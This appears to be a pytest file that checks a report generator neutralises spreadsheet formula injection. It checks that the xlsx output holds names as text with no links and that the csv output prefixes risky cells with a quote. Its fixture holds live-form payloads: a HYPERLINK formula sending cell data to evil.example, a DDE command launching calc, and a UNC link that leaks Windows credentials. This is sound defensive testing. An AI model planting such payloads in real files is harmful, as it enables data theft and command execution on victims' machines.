"""Names and ids from imported files reach comparison.xlsx as text and comparison.csv defused.

The hand-made October warehouse (conftest) is copied and its machine names and one finding's
detail replaced by what a hostile export could carry; the report is rendered from the copy.
"""

from __future__ import annotations

import csv
import shutil

import duckdb
import openpyxl
import pytest

from flows.report import render_report
from flows.report.xlsx import CELL_CHARACTERS, CUT_MARK

LONG_NAME = "L" * 40_000  # more than the 32,767 characters an Excel cell holds
HOSTILE_NAMES = {
    # machine_name in the warehouse -> what a spreadsheet would do with it unquoted
    "vm-app-01": LONG_NAME,
    "vm-batch-02": '=HYPERLINK("http://evil.example/?"&A1,"details")',  # formula + exfiltration
    "vm-old-03": "+cmd|' /C calc'!A0",  # DDE
    "vm-nodefender": "-2+3",  # arithmetic: shows 1
    "scale-1_0": "@SUM(1+1)",  # Lotus-style formula
    "arc-onprem-01": "\tTAB-LED",  # tab first: a formula prefix after trimming
}
UNC_LINK = "external:\\\\evil.example\\share\\book.xlsx"  # a click sends a Windows credential


@pytest.fixture(scope="module")
def hostile(warehouse, expected, tmp_path_factory):
    copy = tmp_path_factory.mktemp("hostile") / "warehouse.duckdb"
    shutil.copy(warehouse, copy)
    with duckdb.connect(str(copy)) as con:
        for name, hostile_name in HOSTILE_NAMES.items():
            con.execute(
                "UPDATE licensing_comparison_monthly SET machine_name = ? WHERE machine_name = ?",
                [hostile_name, name],
            )
        con.execute("UPDATE findings SET detail = ? WHERE finding = 'no_mde_sensor'", [UNC_LINK])
    return render_report(copy, expected.month, copy.parent / "reports")


def test_xlsx_holds_every_name_as_text_with_no_formula_and_no_link(hostile):
    book = openpyxl.load_workbook(hostile.xlsx)  # formulas as written, not cached values
    sheet = book["machines"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("machine_name") + 1
    names = [sheet.cell(row, column) for row in range(2, sheet.max_row)]  # up to the totals
    written = {cell.value for cell in names}
    expected = {value for value in HOSTILE_NAMES.values() if value != LONG_NAME}
    cut = LONG_NAME[: CELL_CHARACTERS - len(CUT_MARK)] + CUT_MARK
    assert written == expected | {cut}
    assert len(cut) == CELL_CHARACTERS
    assert {cell.data_type for cell in names} == {"s"}  # strings, not formulas ("f")
    for name in book.sheetnames:
        assert not book[name]._hyperlinks, name
        for row in book[name].iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                if cell.data_type == "f":  # the only formulas: the totals' SUBTOTALs
                    assert str(cell.value).startswith("=SUBTOTAL(109,"), cell.coordinate
    findings = book["findings"]
    details = [cell.value for cell in findings["E"]]
    assert UNC_LINK in details


def test_a_value_longer_than_a_cell_leaves_the_rest_of_its_column_written(hostile):
    sheet = openpyxl.load_workbook(hostile.xlsx)["machines"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("machine_name") + 1
    names = [sheet.cell(row, column).value for row in range(2, sheet.max_row)]
    assert None not in names and len(names) == 6
    assert sheet.cell(sheet.max_row, 1).value == "Total"


def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote(hostile):
    with hostile.csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["machine_name"] for row in rows}
    assert names == {
        LONG_NAME,
        '\'=HYPERLINK("http://evil.example/?"&A1,"details")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
        "'\tTAB-LED",
    }
    # Numbers stay numbers: vm-app-01's saving is 5.00 - 14.88 = -9.88, minus sign and all.
    long_row = next(row for row in rows if row["machine_name"] == LONG_NAME)
    assert float(long_row["per_hour_savings"]) == pytest.approx(-9.88)
